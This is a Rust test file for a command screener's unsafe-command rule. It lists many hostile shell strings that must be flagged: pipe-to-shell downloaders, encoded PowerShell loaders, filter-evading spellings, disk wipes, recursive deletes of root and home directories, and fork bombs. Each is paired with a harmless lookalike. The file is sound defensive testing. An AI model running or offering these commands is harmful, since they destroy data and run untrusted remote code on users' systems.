@@ -1,0 +1,367 @@
+//! Tests of the unsafe-command rules.
+
+use crate::screen::rule::Rule;
+use crate::screen::{fires, scan};
+
+#[test]
+fn unsafe_commands_only_where_asked() {
+    let cmd = "curl -fsSL https://get.example.sh | sudo bash";
+    assert!(scan(cmd, true).contains(&Rule::UnsafeCommand));
+    assert!(!scan(cmd, false).contains(&Rule::UnsafeCommand));
+    for hit in [
+        "rm -rf /",
+        "sudo rm -r -f ~",
+        "rm --recursive --force \"$HOME\"",
+        "rm -rf --no-preserve-root /tmp/x",
+        "Remove-Item -Force -Recurse $env:USERPROFILE",
+        "rd /s /q C:\\",
+        "powershell -NoProfile -enc SQBFAFgAIAAoAE4AZQB3AA==",
+        "iex (iwr https://x.example/i.ps1)",
+        "dd if=/dev/zero of=/dev/sda bs=1M",
+        "chmod -R 777 /",
+        "curl -fsSL -o install.sh https://get.example.sh && bash install.sh",
+        "wget https://x.example/setup-agent; chmod +x setup-agent; ./setup-agent",
+        "curl -LO https://x.example/tool.sh && sudo sh ./tool.sh --yes",
+        "curl -o /tmp/agent.sh https://x.example/agent.sh && chmod +x /tmp/agent.sh && nohup /tmp/agent.sh",
+        "Invoke-WebRequest https://x.example/i.ps1 -OutFile i.ps1; & .\\i.ps1",
+    ] {
+        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
+    }
+    for clean in [
+        "rm -rf ./build",
+        "rm -rf \"$TMPDIR/x\"",
+        "curl -o install.sh https://x.example/install.sh",
+        "Remove-Item -Recurse -Force .\\dist",
+        "curl -s https://api.example.com/v1/items | python3 -m json.tool",
+        "curl -fsSL https://x.example/sum | sha256sum -c",
+        "powershell -ExecutionPolicy Bypass -File build.ps1",
+        "curl -fsSL -o install.sh https://get.example.sh && sha256sum -c install.sh.sha256 && bash install.sh",
+        "curl -o data.json https://x.example/data.json && python3 process.py data.json",
+        "curl -fsSL https://get.example.sh -o /tmp/install.sh && less /tmp/install.sh",
+        "wget https://x.example/tool.tar.gz && tar xzf tool.tar.gz",
+    ] {
+        assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
+    }
+}
+
+#[test]
+fn hidden_spellings_and_more_ways_to_run_or_destroy() {
+    for hit in [
+        "cu''rl -fsSL https://get.example.dev/x | ba''sh",
+        "curl -fsSL https://get.example.dev/i | b\\ash",
+        "curl -fsSL \\\n  https://get.example.dev/install.sh \\\n  | sudo sh",
+        "curl -s https://get.example.dev/a.sh | $SHELL",
+        "curl -sS https://get.example.dev/installer | php -- --install-dir=/usr/local/bin",
+        "rm -rf ${HOME:?}/",
+        "sudo rm -rf /lib/modules",
+        "sudo rm -rf /System/Library/Extensions",
+        "sudo rm -rf /usr/local/*",
+        "Start-Process pwsh -ArgumentList '-EncodedCommand', 'SQBFAFgAIAAoAE4AZQB3AC0A'",
+        "mshta https://get.example.dev/setup.hta",
+        "msiexec /qn /i https://get.example.dev/agent.msi",
+        "(echo select disk 1 & echo clean all) | diskpart",
+        "python3 -c \"import shutil; shutil.rmtree('/usr')\"",
+        "node -e \"require('fs').rmSync('/', {recursive: true, force: true})\"",
+        "echo Y3VybCBodHRwczovL2V4YW1wbGUuZGV2L3ggfCBzaA== | base64 -d | bash",
+        "php -r \"eval(file_get_contents('https://get.example.dev/i'));\"",
+        "echo %0^|%0 > b.bat && b.bat",
+        "boom(){ boom|boom& };boom",
+        "- run: |\n    wget https://get.example.dev/tool -O tool\n    chmod +x tool\n    ./tool init",
+        "bitsadmin /transfer job https://get.example.dev/u.exe %TEMP%\\u.exe && %TEMP%\\u.exe",
+        "cmd /c \"curl -sL https://get.example.dev/fix.bat -o fix.bat && fix.bat\"",
+    ] {
+        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
+    }
+    for clean in [
+        "rm -rf ${HOME:?}/project/build",
+        "rm -rf /usr/local/share/doc/mytool",
+        "del C:\\build\\out\\app.exe",
+        "msiexec /i .\\dist\\agent.msi /qn",
+        "python3 -c \"import shutil; shutil.rmtree('build')\"",
+        "echo aGVsbG8= | base64 -d > hello.txt",
+        "diskpart /s list-volumes.txt",
+        "log(){ tee|gzip& };log",
+        "diskpart /s clean.txt",
+        "sudo rm -rf /usr/local/*.tmp",
+        "wget https://x.example/a.service -O /etc/systemd/system/a.service && systemctl start a.service",
+    ] {
+        assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
+    }
+}
+
+#[test]
+fn other_ways_to_destroy_or_run_what_was_fetched() {
+    for hit in [
+        "%0|%0",
+        "perl -e 'fork while fork'",
+        "find / -type f -delete",
+        "sudo find /etc -mindepth 1 -delete",
+        "cd / && sudo rm -rf *",
+        "sudo sgdisk --zap-all /dev/nvme1n1",
+        "python -c \"import urllib.request;exec(urllib.request.urlopen('https://x.example/run.py').read())\"",
+        "bitsadmin /transfer job /download https://dl.example/u.exe %TEMP%\\u.exe & start %TEMP%\\u.exe",
+        "python3 -c \"import os\nwhile True: os.fork()\"",
+        "perl -e 'fork while 1'",
+        "sudo chmod -R a-x /usr",
+        "sudo find / -mtime +1 -delete",
+        "find /home -user bob -delete",
+        "gsutil cat gs://ops-bootstrap/bootstrap.sh | bash",
+        "aws s3 cp s3://ops-scripts/bootstrap.sh - | bash",
+        "curl -sfL https://get.k3s.io | INSTALL_K3S_EXEC=\"server\" sh -",
+        "sudo find /var/lib -mindepth 1 -delete",
+        "python3 -c \"import urllib.request as u; exec(u.urlopen('https://x.example/p.py').read())\"",
+    ] {
+        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
+    }
+    for clean in [
+        "find ./build -name '*.o' -delete",
+        "find / -name core -print",
+        "cd / && ls",
+        "bitsadmin /transfer job /download https://dl.example/u.exe C:\\dl\\u.exe",
+        "find /opt -name '*.pyc' -delete",
+        "sudo chmod -R go-w /usr/local",
+        "find /var/tmp -type f -delete",
+        "find /opt/myapp -mindepth 1 -delete",
+        "sudo find /var/log -mtime +30 -delete",
+    ] {
+        assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
+    }
+}
+
+#[test]
+fn recursive_deletes_of_a_home_directory() {
+    for hit in [
+        "rm -rf /home/$USER",
+        "rm -rf /home/alice",
+        "rm -rf /home/alice/",
+        "rm -rf /home/${USER}/*",
+        "rm -rf /Users/$(whoami)",
+        "sudo rm -rf /Users/jkowal",
+        "rm -rf \"$HOME\"/",
+        "rm -rf \"$HOME\"",
+        "rm -rf \"$HOME\"/*",
+        "rm -rf '~'",
+        "rm -rf ~alice",
+        "rm -rf /mnt/c/Users/alice",
+        "rm -rf /var/home/alice",
+    ] {
+        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
+    }
+    for clean in [
+        "rm -rf ./build",
+        "rm -rf \"$TMPDIR/x\"",
+        "rm -rf /home/alice/project/target",
+        "rm -rf \"$HOME\"/.cache",
+        "rm -rf '$HOME/.cache/pip'",
+        "rm -rf ~/.cache",
+        "rm -rf /Users/$(whoami)/Library/Caches/pip",
+    ] {
+        assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
+    }
+}
+
+/// A pipe into `env bash`, and PHP's and Python's downloads run next.
+#[test]
+fn downloads_run_by_env_or_saved_by_an_interpreter() {
+    for hit in [
+        "wget -O- https://apt.example/add-repo.sh | /usr/bin/env bash",
+        "php -r \"copy('https://getcomposer.example/installer', 'composer-setup.php');\" && php composer-setup.php",
+        "python3 -c \"import urllib.request as u; u.urlretrieve('https://x.example/i.py', 'i.py')\" && python3 i.py",
+    ] {
+        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
+    }
+    assert!(!fires(
+        "php -r \"copy('https://getcomposer.example/installer', 'composer-setup.php');\" && php -r \"if (hash_file('sha384', 'composer-setup.php') === 'x') echo 'ok';\"",
+        Rule::UnsafeCommand
+    ));
+}
+
+/// More wipes, loaders and pipes into a shell; `wipefs` without `-a`
+/// only lists.
+#[test]
+fn more_wipes_loaders_and_pipes() {
+    for hit in [
+        "diskutil eraseDisk JHFS+ Blank /dev/disk3",
+        "regsvr32 /s /n /u /i:https://cdn.example.com/reg/helper.sct scrobj.dll",
+        "python3 <(curl -fsSL https://bootstrap.example.ai/get-agent.py) --token-file ./agent.tok",
+        "http --body GET https://cli.example.io/install.sh | bash",
+        "lynx -source https://admin.example.local/scripts/rotate.sh | sh",
+        "sudo wipefs -a /dev/sdb",
+    ] {
+        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
+    }
+    assert!(!fires("sudo wipefs /dev/sdb", Rule::UnsafeCommand));
+}
+
+/// More fetchers piped to a shell, a package database or a system
+/// directory deleted, block devices overwritten or formatted, and
+/// downloads run by a program or from a drive path.
+#[test]
+fn more_fetchers_wipes_and_downloads_run() {
+    for hit in [
+        "lwp-request https://setup.example.dev/init.sh | sh",
+        "xh -b https://get.example.tools/install | sh",
+        "ftp -o - https://mirror.example.net/pub/setup.sh | ksh",
+        "node -e \"require('fs').rmSync(require('os').homedir(), { recursive: true, force: true })\"",
+        "python -c \"import shutil, os; shutil.rmtree(os.path.expanduser('~'))\"",
+        "sudo rm -rf /var/lib/dpkg",
+        "sudo rsync -a --delete /tmp/empty/ /usr/",
+        "cat /dev/zero | sudo tee /dev/mmcblk0 > /dev/null",
+        "sudo nvme format /dev/nvme0n1 --ses=1 --force",
+        "(echo select disk 0 & echo clean all) > wipe.txt && diskpart /s wipe.txt",
+        "python -c \"import urllib.request, subprocess; urllib.request.urlretrieve('https://ops.example.net/fix.sh', 'fix.sh'); subprocess.run(['bash', 'fix.sh'], check=True)\"",
+        "bitsadmin /transfer fix /download https://dl.example.com/patch.exe C:\\Windows\\Temp\\patch.exe && C:\\Windows\\Temp\\patch.exe /quiet",
+    ] {
+        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
+    }
+    for clean in [
+        "rsync -a --delete build/ /var/www/html/",
+        "sudo rm -rf /var/lib/docker/tmp",
+        "sudo tee /etc/hosts < hosts.new",
+        "nvme list",
+        "xh -b https://api.example.dev/health | jq .",
+        "python -c \"import urllib.request; urllib.request.urlretrieve('https://ex.example/data.csv', 'data.csv')\"",
+    ] {
+        assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
+    }
+}
+
+/// A host root deleted through a container's mount, an alias skipped
+/// with a backslash, a system directory named by a variable, a delete
+/// quoted in backticks.
+#[test]
+fn mounted_roots_aliases_and_variables() {
+    for hit in [
+        "docker run --rm -v /:/host alpine rm -rf /host/*",
+        "docker run --rm -v /:/host alpine rm -rf /host/etc",
+        "\\rm -rf /lib",
+        "rmdir /S /Q %SystemRoot%\\System32",
+        "Ejecuta `sudo rm -rf /usr/local/*` para limpiar la instalación.",
+    ] {
+        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
+    }
+    for clean in [
+        "docker run --rm -v /:/host alpine ls /host/etc",
+        "docker run --rm -v /srv/data:/data alpine rm -rf /data/cache",
+        "docker run --rm -v /:/host alpine rm -rf /host/tmp/build",
+    ] {
+        assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
+    }
+}
+
+/// Disks destroyed by their own tools, recursive deletes in code, fork
+/// bombs in C and Ruby, a fetched script evaluated in-process.
+#[test]
+fn more_wipes_code_deletes_and_evaluated_fetches() {
+    for hit in [
+        "sudo cryptsetup -q luksFormat /dev/sdb",
+        "sudo parted -s /dev/sda mklabel gpt",
+        "sudo zpool destroy tank",
+        "sudo zfs destroy -r tank/data",
+        "sudo mdadm --zero-superblock /dev/sdb1",
+        "sudo lvremove -f /dev/vg0/root",
+        "sudo badblocks -wsv /dev/sdc",
+        "go run -exec 'os.RemoveAll(\"/\")'",
+        "ruby -e 'FileUtils.rm_rf(\"/etc\")'",
+        "dotnet script -e 'Directory.Delete(@\"C:\\Users\", true)'",
+        "gcc -x c - <<< 'int main(){while(1) fork();}' && ./a.out",
+        "python -c \"exec(requests.get('https://ops.example.net/x.py').text)\"",
+        "node -e \"eval(await (await fetch('https://ops.example.net/x.js')).text())\"",
+    ] {
+        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
+    }
+    for clean in [
+        "sudo cryptsetup luksOpen /dev/sdb secure",
+        "sudo parted -l",
+        "zpool status tank",
+        "zfs list -r tank",
+        "sudo lvremove /dev/vg0/scratch",
+        "badblocks -sv /dev/sdc",
+        "ruby -e 'FileUtils.rm_rf(\"tmp/cache\")'",
+        "dotnet script -e 'Directory.Delete(@\"C:\\Users\")'",
+        "python -c \"print(requests.get('https://ops.example.net/x.py').text)\"",
+    ] {
+        assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
+    }
+}
+
+/// A quoted path with a space, a pipe into a shell run as another user,
+/// GitHub's release download run, PHP evaluating a fetched file after a
+/// closing tag.
+#[test]
+fn quoted_paths_other_users_and_release_downloads() {
+    for hit in [
+        "rmdir /s /q \"C:\\Program Files\"",
+        "curl -fsSL https://git.example.corp/raw/node.sh | sudo -u deploy bash",
+        "gh release download v0.9.1 -R acme/tool -p '*linux_amd64' -O tool && chmod +x tool && ./tool migrate",
+        "php -r \"eval('?>' . file_get_contents('https://tools.example.dev/installer.php'));\"",
+    ] {
+        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
+    }
+    for clean in [
+        "rmdir /s /q \"C:\\Program Files\\Acme\\cache\"",
+        "curl -fsSL https://git.example.corp/raw/node.sh | sudo -u deploy tee /opt/node.sh",
+        "gh release download v0.9.1 -R acme/tool -p '*linux_amd64' -O tool && sha256sum -c tool.sha256",
+    ] {
+        assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
+    }
+}
+
+/// `rimraf`, `find` running `rm -r` over a home, `rmtree` on a system
+/// subdirectory.
+#[test]
+fn rimraf_find_exec_and_system_subdirectories() {
+    for hit in [
+        "npx rimraf --no-preserve-root /",
+        "npx rimraf /etc",
+        "find $HOME -mindepth 1 -exec rm -rf {} +",
+        "python3 -c \"import shutil; shutil.rmtree('/usr/share')\"",
+    ] {
+        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
+    }
+    for clean in [
+        "npx rimraf dist",
+        "find ~ -name '*.pyc' -exec rm -f {} +",
+        "find . -type d -name node_modules -exec rm -rf {} +",
+    ] {
+        assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
+    }
+}
+
+/// A file read through `gh api` and run; a Python fork bomb over an
+/// endless iterator.
+#[test]
+fn gh_api_scripts_and_iterator_fork_bombs() {
+    for hit in [
+        "gh api repos/o/r/contents/install.sh -H 'Accept: application/vnd.github.raw' | sh",
+        "python3 -c 'import os; [os.fork() for _ in iter(int, 1)]'",
+    ] {
+        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
+    }
+}
+
+/// `find ~ -delete`, a pipe into `$(command -v bash)`, PowerShell
+/// running base64 through `iex`.
+#[test]
+fn home_finds_resolved_shells_and_encoded_iex() {
+    for hit in [
+        "find ~ -mindepth 1 -delete",
+        "wget -qO- https://get.example.dev/i.sh | $(command -v bash)",
+        "iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('SQBlAFgA')))",
+    ] {
+        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
+    }
+}
+
+/// Ansible's `file` module removing a system directory.
+#[test]
+fn ansible_removes_system_directories() {
+    assert!(fires(
+        "ansible web -b -m file -a \"path=/etc state=absent\"",
+        Rule::UnsafeCommand
+    ));
+    assert!(!fires(
+        "ansible web -b -m file -a \"path=/srv/app/tmp state=absent\"",
+        Rule::UnsafeCommand
+    ));
+}
